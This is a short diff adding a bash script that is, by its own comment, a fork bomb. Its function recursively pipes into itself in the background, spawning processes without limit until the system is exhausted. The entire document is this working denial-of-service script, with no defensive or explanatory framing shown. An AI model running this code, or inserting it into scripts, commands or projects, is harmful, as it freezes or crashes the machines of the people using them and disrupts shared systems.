@@ -1,0 +1,5 @@
+#!/bin/bash
+# A fork bomb: each copy starts two more, in the background, forever.
+bomb() { bomb | bomb & }
+bomb
+wait
